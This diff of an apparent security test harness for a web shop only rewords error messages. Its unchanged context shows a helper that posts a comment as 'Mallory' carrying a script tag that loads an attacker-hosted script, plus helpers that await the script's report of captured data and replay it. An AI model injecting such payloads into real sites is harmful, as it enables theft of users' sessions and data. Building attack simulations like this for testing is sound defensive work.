@@ -58,7 +58,7 @@ def _comment(scene: Scene, place: str, payload: str) -> None:
     data = {"author": "Mallory", "text": f'Lovely mug!<script src="{source}"></script>'}
     answer = scene.ask("POST", scene.url(f"{shop.ROOT}/{place}/comment"), data=data)
     if answer.status_code != 302:
-        raise RuntimeError(f"The shop did not take the comment: {answer.status_code}.")
+        raise RuntimeError(f"The shop refused the comment: {answer.status_code}.")
 
 
 def _open_and_log_in(context: Any, scene: Scene, place: str, part: str = "") -> Any:
@@ -79,7 +79,7 @@ def await_report(scene: Scene, state: str) -> list[dict[str, str]]:
                 found: list[dict[str, str]] = report["found"]
                 return found
         time.sleep(0.02)
-    raise RuntimeError("The script of the attacker did not report, so nothing is known.")
+    raise RuntimeError("No report of the attacker's script arrived.")
 
 
 def replay(scene: Scene, place: str, found: list[dict[str, str]]) -> Seen:
@@ -122,7 +122,7 @@ def await_arrival(scene: Scene, method: str, path: str) -> Arrival:
             if (arrival.method, arrival.path) == (method, path) and arrival.status:
                 return arrival
         time.sleep(0.02)
-    raise RuntimeError(f"Nothing arrived at {path}, so nothing is known.")
+    raise RuntimeError(f"No request to {path} arrived.")
 
 
 def _new_tab(scene: Scene) -> Seen:
